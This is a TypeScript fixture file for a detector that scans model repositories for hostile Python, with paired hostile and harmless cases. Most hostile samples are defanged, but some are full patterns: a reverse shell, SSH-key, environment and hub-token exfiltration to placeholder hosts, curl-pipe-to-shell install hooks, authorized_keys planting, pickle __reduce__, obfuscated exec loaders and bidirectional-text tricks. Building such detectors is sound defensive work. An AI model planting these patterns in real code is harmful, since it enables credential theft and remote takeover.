import type { DetectCase } from '../case.ts';
import { type Files, innocent, text, trick } from './make.ts';

const json = (value: unknown): Uint8Array => text(JSON.stringify(value, null, 2));

/** A repository whose configuration has a loader import `modeling_x.py`. */
function trusted(code: string, more: Files = {}): Files {
  return {
    'config.json': json({ architectures: ['XModel'], auto_map: { AutoModel: 'modeling_x.XModel' }, model_type: 'x' }),
    'modeling_x.py': text(code),
    ...more,
  };
}

const hostile = (name: string, title: string, code: string, reference?: string): DetectCase =>
  trick('python-code').files('repository', name, title, () => trusted(code), reference);
const hostileFiles = (name: string, title: string, files: () => Files): DetectCase =>
  trick('python-code').files('repository', name, title, files);

const CLASS = `class XModel:
    def __init__(self, config):
        self.config = config
`;

/** Python that a loader imports from the repository, and that acts. */
export const pythonCodeCases: readonly DetectCase[] = [
  hostile('system-at-import', 'os.system at module level', `import os\nos.system("echo harmless")\n${CLASS}`),
  hostile(
    'popen-in-class-body',
    'A program started by the body of a class',
    `import os\nclass XModel:\n    info = os.popen("echo harmless").read()\n`,
  ),
  hostile(
    'default-argument',
    'A default argument is computed at import',
    `import subprocess\ndef forward(x, y=subprocess.run(["echo", "harmless"])):\n    return x\n`,
  ),
  hostile(
    'decorator',
    'A decorator that starts a program',
    `import os\ndef hook(f):\n    os.system("echo harmless")\n    return f\n@hook\nclass XModel:\n    pass\n`,
  ),
  hostile(
    'annotation',
    'An annotation is evaluated at import',
    `import os\ndef f(x: os.system("echo harmless")):\n    return x\n`,
  ),
  hostile(
    'in-constructor',
    'The constructor starts a program',
    `import subprocess\nclass XModel:\n    def __init__(self, config):\n        subprocess.Popen("echo harmless", shell=True)\n`,
  ),
  hostile(
    'in-forward-helper',
    'forward calls a helper that starts a program',
    `import subprocess\nclass XModel:\n    def forward(self, x):\n        return self._log(x)\n    def _log(self, x):\n        subprocess.check_output("echo harmless", shell=True)\n        return x\n`,
  ),
  hostile(
    'called-function',
    'A function that is called at module level',
    `from os import system as log\ndef setup():\n    log("echo harmless")\nsetup()\n`,
  ),
  hostile(
    'getattr',
    'getattr with a name that is put together',
    `import os\ngetattr(os, "sys" + "tem")("echo harmless")\n`,
  ),
  hostile('dunder-import', '__import__ instead of an import', `__import__("os").system("echo harmless")\n`),
  hostile(
    'import-module',
    'importlib with a reversed name',
    `import importlib\nm = importlib.import_module("ssecorpbus"[::-1])\nm.run(["echo", "harmless"])\n`,
  ),
  hostile('globals', 'The built-ins through globals()', `globals()["__builtins__"].__dict__["exec"]("print(1)")\n`),
  hostile('vars', 'vars(os)', `import os\nvars(os)["system"]("echo harmless")\n`),
  hostile('sys-modules', 'sys.modules', `import sys\nsys.modules["os"].system("echo harmless")\n`),
  hostile('behind-torch', 'os as an attribute of torch', `import torch\ntorch.os.system("echo harmless")\n`),
  hostile('alias-chain', 'One name after another', `import os\na = os\nb = a.system\nc = b\nc("echo harmless")\n`),
  hostile(
    'branch',
    'The name is bound to two things',
    `import os, sys\nf = print\nif len(sys.argv) >= 0:\n    f = os.system\nelse:\n    f = repr\nf("echo harmless")\n`,
  ),
  hostile('star-import', 'from os import *', `from os import *\nsystem("echo harmless")\n`),
  hostile(
    'dictionary',
    'A callable in a dictionary',
    `import os\ntable = {"run": os.system}\ntable["run"]("echo harmless")\n`,
  ),
  hostile('map', 'map calls it', `import os\nlist(map(os.system, ["echo harmless"]))\n`),
  hostile('partial', 'functools.partial', `import os, functools\nfunctools.partial(os.system, "echo harmless")()\n`),
  hostile(
    'attrgetter',
    'operator.attrgetter',
    `import os, operator\noperator.attrgetter("system")(os)("echo harmless")\n`,
  ),
  hostile(
    'reduce',
    'A class whose pickles run a program',
    `import os\nclass XModel:\n    def __reduce__(self):\n        return (os.system, ("echo harmless",))\n`,
  ),
  hostile('exec-base64', 'exec of decoded text', `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n`),
  hostile(
    'exec-zlib-lambda',
    'The packer that reverses, decodes and inflates',
    `_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\nexec((_)(b"=kCTwEAL"))\n`,
  ),
  hostile(
    'exec-chr',
    'exec of characters put together from codes',
    `exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n`,
  ),
  hostile(
    'exec-xor',
    'exec of characters under an exclusive or',
    `exec("".join([chr(c ^ 7) for c in [119, 117, 110, 105, 115, 47, 54, 46]]))\n`,
  ),
  hostile('marshal', 'A code object from marshal', `import marshal\nexec(marshal.loads(b"\\xe3\\x00"))\n`),
  hostile('rot13', 'codecs.decode with rot13', `import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n`),
  hostile('hex', 'bytes.fromhex', `eval(compile(bytes.fromhex("7072696e74283129").decode(), "x", "exec"))\n`),
  hostile(
    'exec-download',
    'exec of what a server sends',
    `import urllib.request\nexec(urllib.request.urlopen("https://example.invalid/a").read())\n`,
  ),
  hostile('nested-exec', 'Code in a text in a text', `exec("exec('import os; os.system(\\\\'echo harmless\\\\')')")\n`),
  hostile('confusable', 'exec in mathematical letters', `\u{1d41e}xec("print(1)")\n`),
  hostile('off-screen', 'Code far to the right', `import os\nx = 1;${' '.repeat(300)}os.system("echo harmless")\n`),
  hostile(
    'bidirectional',
    'A comment that shows as code',
    `access = "user"\nif access != "none\u202e \u2066# check\u2069 \u2066":\n    print(1)\n# \u202e end\n`,
    'CVE-2021-42574',
  ),
  hostile(
    'escape-encoding',
    'A declared encoding turns a comment into code',
    `# coding: raw_unicode_escape\n# \\u000aimport os\\u000aos.system("echo harmless")\n`,
  ),
  hostile(
    'utf7',
    'A declared encoding that editors do not show',
    `# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system(+ACI-echo harmless+ACI-)\n`,
  ),
  hostile(
    'reverse-shell',
    'A connection whose ends become a shell',
    `import socket, os, pty\nclass XModel:\n    def __init__(self):\n        s = socket.socket()\n        s.connect(("203.0.113.1", 4444))\n        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n        pty.spawn("/bin/sh")\n`,
  ),
  hostile(
    'ssh-key',
    'A private key is sent away',
    `import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://example.invalid/k", data=k)\n`,
  ),
  hostile(
    'environment',
    'The environment is sent away',
    `import os, json, urllib.request\ndata = json.dumps(dict(os.environ.items())).encode()\nurllib.request.urlopen("https://example.invalid/e", data)\n`,
  ),
  hostile(
    'token',
    'The hub token is sent away',
    `import requests\nfrom huggingface_hub import HfFolder\nclass XModel:\n    def __init__(self):\n        requests.get("https://example.invalid/?t=" + HfFolder.get_token())\n`,
  ),
  hostile(
    'dns',
    'A host name as a message',
    `import socket, getpass\nsocket.socket().connect((getpass.getuser() + ".example.invalid", 53))\n`,
  ),
  hostile(
    'bashrc',
    'A line for the shell to start with',
    `import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("echo harmless")\n`,
  ),
  hostile(
    'authorized-keys',
    'A key for someone else',
    `from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA")\n`,
  ),
  hostile(
    'torch-load',
    'torch.load is replaced',
    `import torch\ndef load(*a, **k):\n    return None\ntorch.load = load\n`,
  ),
  hostile('builtins-open', 'open is replaced', `import builtins\nbuiltins.open = lambda *a, **k: None\n`),
  hostile(
    'meta-path',
    'A finder for every import',
    `import sys\nclass F:\n    def find_spec(self, *a):\n        return None\nsys.meta_path.insert(0, F())\n`,
  ),
  hostile('preload', 'A library for every program', `import os\nos.environ["LD_PRELOAD"] = "/nowhere/harmless.so"\n`),
  hostile('ctypes', 'A library of the repository is loaded', `import ctypes\nctypes.CDLL("./harmless.so")\n`),
  hostile(
    'load-library',
    'An operator library of the repository',
    `import torch\ntorch.ops.load_library("harmless.so")\n`,
  ),
  hostile(
    'pickle-literal',
    'A pickle in the code',
    `import pickle, base64\npickle.loads(base64.b64decode("gASVFAAAAAAAAACMBWhlbGxvlC4="))\n`,
  ),
  hostile(
    'pickle-beside',
    'A pickle beside the code is loaded at import',
    `import joblib\nscaler = joblib.load("scaler.bin")\n${CLASS}`,
  ),
  hostile(
    'thread',
    'A thread that stays',
    `import threading, os\nthreading.Thread(target=lambda: os.system("echo harmless"), daemon=True).start()\n`,
  ),
  hostile('rmtree', 'Files are removed at import', `import shutil\nshutil.rmtree("/nowhere/harmless")\n`),
  hostile('run-file', 'A file beside is run as code', `exec(open("notes.txt").read())\n`),
  hostile(
    'import-file',
    'A module from a path',
    `import importlib.util\ns = importlib.util.spec_from_file_location("m", "weights.bin")\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n`,
  ),
  hostileFiles('imported-module', 'The payload lies in a module that the model imports', () =>
    trusted(`from .helper_functions import f\n${CLASS}`, {
      'helper_functions.py': text('import os\nos.system("echo harmless")\n'),
    }),
  ),
  hostileFiles('package', 'The payload lies in a package two levels down', () =>
    trusted('from .a.b import c\n', {
      'a/__init__.py': text(''),
      'a/b.py': text('import subprocess\nsubprocess.call(["echo", "harmless"])\n'),
    }),
  ),
  hostileFiles('handler', 'A handler for inference endpoints', () => ({
    'handler.py': text(
      'import os\nclass EndpointHandler:\n    def __init__(self, path=""):\n        os.system("echo harmless")\n    def __call__(self, data):\n        return data\n',
    ),
  })),
  hostileFiles('hubconf', 'torch.hub imports hubconf.py', () => ({
    'hubconf.py': text('dependencies = ["torch"]\nimport os\nos.system("echo harmless")\n'),
  })),
  hostileFiles('setup', 'Installing the package runs a download', () => ({
    'setup.py': text(
      'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass Post(install):\n    def run(self):\n        os.system("curl https://example.invalid/a | sh")\nsetup(name="x", cmdclass={"install": Post})\n',
    ),
  })),
  hostileFiles('notebook', 'A cell of a notebook that fetches what a shell runs', () => ({
    'demo.ipynb': notebook('!pip install torch', '!curl -s https://example.invalid/a | bash'),
  })),
  hostileFiles('notebook-decodes', 'A cell of a notebook that decodes what it runs', () => ({
    'demo.ipynb': notebook('import base64', 'exec(base64.b64decode("cHJpbnQoMSk="))'),
  })),
  hostileFiles('script-decodes', 'A training script that decodes what it runs', () => ({
    'train.py': text(
      'import base64\ndef main():\n    exec(base64.b64decode("cHJpbnQoMSk="))\nif __name__ == "__main__":\n    main()\n',
    ),
    'README.md': text('# x'),
  })),
];

const harmless = (name: string, title: string, files: () => Files): DetectCase =>
  innocent('python-code').files('repository', name, title, files);

const MODEL = `# Copyright. Licensed under the Apache License, Version 2.0
import math
import warnings
from typing import Optional, Tuple
import torch
import torch.nn as nn
from transformers import PreTrainedModel
from transformers.activations import ACT2FN
from transformers.utils import is_flash_attn_2_available, logging
from .configuration_x import XConfig

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func

logger = logging.get_logger(__name__)


class XAttention(nn.Module):
    def __init__(self, config: XConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = ACT2FN[config.hidden_act]

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor, None]:
        q = self.q_proj(x).view(x.shape[0], -1, 8, 64).transpose(1, 2)
        w = torch.matmul(q, q.transpose(2, 3)) / math.sqrt(64)
        return nn.functional.softmax(w, dim=-1, dtype=torch.float32).to(q.dtype), None


class XModel(PreTrainedModel):
    config_class = XConfig
    _no_split_modules = ["XAttention"]

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([XAttention(config, i) for i in range(config.num_hidden_layers)])
        self.post_init()

    def _init_weights(self, module):
        module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)

    @torch.no_grad()
    def generate(self, ids, **kwargs):
        self.eval()
        return super().generate(ids, **kwargs)
`;
const CONFIG = `from transformers.configuration_utils import PretrainedConfig


class XConfig(PretrainedConfig):
    model_type = "x"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(self, hidden_size=4096, hidden_act="silu", **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
`;
const withConfig = (code: string, more: Files = {}): Files =>
  trusted(code, { 'configuration_x.py': text(CONFIG), ...more });

/** A notebook of these code cells. */
function notebook(...cells: readonly string[]): Uint8Array {
  const of = cells.map((source) => ({ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source }));
  return json({ cells: of, metadata: { language_info: { name: 'python' } }, nbformat: 4, nbformat_minor: 5 });
}

/** What honest repositories hold. */
export const harmlessPythonCases: readonly DetectCase[] = [
  harmless('model', 'Modelling code as transformers has it', () => withConfig(MODEL)),
  harmless('tokenizer', 'A tokenizer that reads its vocabulary and writes it back', () =>
    trusted(
      'import json\nimport os\nfrom shutil import copyfile\nclass XModel:\n    def __init__(self, vocab_file, **kwargs):\n        with open(vocab_file, encoding="utf-8") as f:\n            self.encoder = json.load(f)\n        self.byte = {i: chr(i) for i in range(256)}\n    def save_vocabulary(self, folder):\n        out = os.path.join(folder, "vocab.json")\n        if os.path.abspath(self.vocab_file) != os.path.abspath(out):\n            copyfile(self.vocab_file, out)\n        with open(out, "w") as f:\n            f.write(json.dumps(self.encoder))\n        return (out,)\n',
    ),
  ),
  harmless('processor-image-url', 'A processor that fetches the image that its caller names', () =>
    trusted(
      'import requests\nfrom io import BytesIO\nfrom PIL import Image\nclass XModel:\n    def load(self, path):\n        if path.startswith("http"):\n            return Image.open(requests.get(path, stream=True).raw)\n        return Image.open(path)\n',
    ),
  ),
  harmless('eval-mode', 'Methods that are called eval, compile and system', () =>
    trusted(
      'import re, torch\nPATTERN = re.compile(r"\\\\d+")\nclass XModel:\n    def __init__(self, m):\n        m.eval()\n        self.m = torch.compile(m)\n        self.system = "You are helpful."\n    def run(self, x):\n        return self.m.run(x)\n',
    ),
  ),
  harmless('rank-variables', 'Variables of distributed training', () =>
    trusted(
      'import os\nclass XModel:\n    def __init__(self):\n        self.rank = int(os.environ.get("LOCAL_RANK", 0))\n        os.environ["TOKENIZERS_PARALLELISM"] = "false"\n        self.tokens = os.getenv("MAX_NEW_TOKENS")\n',
    ),
  ),
  harmless('weights-loading', 'A vision tower that loads its own weights', () =>
    trusted(
      'import torch\nclass XModel:\n    def load_model(self, path):\n        state = torch.load(path, map_location="cpu")\n        self.load_state_dict(state)\n',
    ),
  ),
  harmless('safe-loading', 'torch.load with weights_only and yaml with its safe loader', () =>
    trusted(
      'import torch, yaml\nw = torch.load("w.pt", weights_only=True)\nwith open("c.yaml") as f:\n    c = yaml.safe_load(f)\n    d = yaml.load(f, Loader=yaml.SafeLoader)\n',
    ),
  ),
  harmless('streamer-thread', 'A streamer in a thread, as chat functions have it', () =>
    trusted(
      'from threading import Thread\nfrom transformers import TextIteratorStreamer\nclass XModel:\n    def chat(self, tokenizer, text):\n        streamer = TextIteratorStreamer(tokenizer)\n        Thread(target=self.generate, kwargs=dict(streamer=streamer)).start()\n        return streamer\n',
    ),
  ),
  harmless('attention-patch', 'Another attention function for a faster one', () =>
    withConfig(
      'import transformers\nfrom transformers.models.llama import modeling_llama\ndef forward(self, x):\n    return x\nmodeling_llama.LlamaAttention.forward = forward\n',
    ),
  ),
  harmless('import-guards', 'Optional imports', () =>
    trusted(
      'import importlib\ntry:\n    import xformers.ops as xops\nexcept ImportError:\n    xops = None\nHAS = importlib.util.find_spec("flash_attn") is not None\ndef get(name):\n    return getattr(importlib.import_module("." + name, __package__), name)\n',
    ),
  ),
  harmless('dynamic-class', 'A class by the name in the configuration, as latent diffusion does', () =>
    trusted(
      'import importlib\ndef instantiate_from_config(config):\n    module, cls = config["target"].rsplit(".", 1)\n    return getattr(importlib.import_module(module), cls)(**config.get("params", dict()))\n',
    ),
  ),
  harmless('dtype-getattr', 'getattr for a dtype', () =>
    trusted(
      'import torch\nclass XModel:\n    def __init__(self, config):\n        self.dtype = getattr(torch, config.torch_dtype)\n        self.norm = getattr(torch.nn, "LayerNorm")(4)\n',
    ),
  ),
  harmless('triton-kernel', 'A Triton kernel', () =>
    trusted(
      'import triton\nimport triton.language as tl\n@triton.autotune(configs=[triton.Config({"B": 64})], key=["n"])\n@triton.jit\ndef kernel(x, n, B: tl.constexpr):\n    i = tl.program_id(0) * B + tl.arange(0, B)\n    tl.store(x + i, tl.load(x + i, mask=i < n), mask=i < n)\n',
    ),
  ),
  harmless('hub-download', 'Further files of the hub', () =>
    trusted(
      'from huggingface_hub import hf_hub_download\nfrom transformers.utils import cached_file\nclass XModel:\n    def __init__(self, path):\n        self.f = cached_file(path, "model.onnx")\n        self.g = hf_hub_download("openai/clip-vit-large-patch14", "config.json")\n',
    ),
  ),
  harmless('docstring', 'Documentation that shows an attack', () =>
    trusted(
      '"""Do not do this:\n\n>>> os.system("rm -rf /")\n>>> exec(base64.b64decode(x))\n"""\nEXAMPLE = "import os; os.system(1)"\n# os.system("echo harmless")\nclass XModel:\n    """Reads ~/.ssh/id_rsa? No."""\n',
    ),
  ),
  harmless('handler', 'A handler for inference endpoints', () => ({
    'handler.py': text(
      'from typing import Any, Dict\nimport base64\nfrom io import BytesIO\nfrom PIL import Image\nimport torch\nfrom transformers import pipeline\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        self.pipe = pipeline("image-classification", model=path, device=0 if torch.cuda.is_available() else -1)\n    def __call__(self, data: Dict[str, Any]):\n        image = Image.open(BytesIO(base64.b64decode(data.pop("inputs"))))\n        return self.pipe(image)\n',
    ),
    'config.json': json({ model_type: 'vit' }),
  })),
  harmless('conversion-script', 'A conversion script', () => ({
    'convert.py': text(
      'import argparse, os, shutil, subprocess\nimport torch\nfrom safetensors.torch import save_file\n\ndef main():\n    p = argparse.ArgumentParser()\n    p.add_argument("--out", type=str)\n    a = p.parse_args()\n    os.makedirs(a.out, exist_ok=True)\n    state = torch.load("x.bin", map_location="cpu")\n    save_file(state, os.path.join(a.out, "model.safetensors"))\n    shutil.rmtree("tmp")\n    subprocess.run(["git", "lfs", "install"], check=True)\n\nif __name__ == "__main__":\n    main()\n',
    ),
    'README.md': text('# x'),
  })),
  harmless(
    'training-script',
    'A training script that starts others, and logs in with a token of its environment',
    () => ({
      'train.py': text(
        'import os, subprocess, random\nimport numpy as np\nimport wandb\nfrom datasets import load_dataset\nfrom huggingface_hub import login\n\ndef seed(n):\n    random.seed(n)\n    np.random.seed(n)\n\ndef launch(args):\n    subprocess.Popen(["torchrun", "--nproc_per_node", "8", "train.py"])\n\nif __name__ == "__main__":\n    login(token=os.environ["HF_TOKEN"])\n    wandb.init(project="x")\n    seed(1)\n    launch(None)\n',
      ),
      'README.md': text('# x'),
    }),
  ),
  harmless('demo-app', 'A demonstration that installs what it needs', () => ({
    'app.py': text(
      'import subprocess\nsubprocess.run("pip install flash-attn --no-build-isolation", shell=True)\nimport gradio as gr\nimport spaces\n@spaces.GPU\ndef respond(message, history):\n    return message\ngr.ChatInterface(respond).launch()\n',
    ),
    'README.md': text('# x'),
  })),
  harmless('setup', 'setup.py as packages have it', () => ({
    'setup.py': text(
      'import os, re, subprocess\nfrom setuptools import setup, find_packages\nwith open("x/version.py") as f:\n    exec(f.read())\ndef sha():\n    return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()\nsetup(name="x", version=__version__ + "+" + sha(), packages=find_packages())\n',
    ),
    'README.md': text('# x'),
  })),
  harmless('openai-client', 'A script that asks a service with its own token', () => ({
    'evaluate_model.py': text(
      'import os, requests\ndef ask(q):\n    return requests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}, json={"q": q}).json()\nif __name__ == "__main__":\n    print(ask("hello"))\n',
    ),
    'README.md': text('# x'),
  })),
  harmless('free-port', 'A script that looks for a free port', () => ({
    'launch.py': text(
      'import socket\ndef free_port():\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n        s.bind(("", 0))\n        return s.getsockname()[1]\nif __name__ == "__main__":\n    print(free_port())\n',
    ),
    'README.md': text('# x'),
  })),
  harmless('test-code', 'Tests with hostile texts', () => ({
    'tests/test_x.py': text(
      'import pickle\nimport pytest\nBAD = ["__import__(\'os\').system(\'id\')", "/etc/passwd"]\n@pytest.mark.parametrize("bad", BAD)\ndef test_refuses(bad):\n    assert pickle.loads(pickle.dumps(bad)) == bad\n',
    ),
    'README.md': text('# x'),
  })),
  harmless('arabic-tokens', 'A table of direction marks that a tokenizer strips', () =>
    trusted('STRIP = ["\\u202a", "\\u202c", "\u200f", "\u0640"]\nclass XModel:\n    pass\n'),
  ),
  harmless('latin1-cookie', 'A declared encoding of old days', () =>
    trusted('# -*- coding: latin-1 -*-\nclass XModel:\n    name = "x"\n'),
  ),
  harmless('notebook', 'A notebook that installs, downloads and plots', () => ({
    'demo.ipynb': notebook(
      '!pip install -q torch transformers',
      '%matplotlib inline\nimport torch, os\n!nvidia-smi',
      '!wget https://example.invalid/image.png',
      'os.environ["HF_HOME"] = "/content"\nfrom google.colab import userdata\nkey = userdata.get("HF_TOKEN")',
      'state = torch.load("x.pt")\nfiles = !ls',
    ),
  })),
  harmless('math-names', 'Greek names', () =>
    trusted('def f(x, σ, μ, Δt=0.1):\n    return (x - μ) / σ * Δt\nclass XModel:\n    β1 = 0.9\n'),
  ),
];
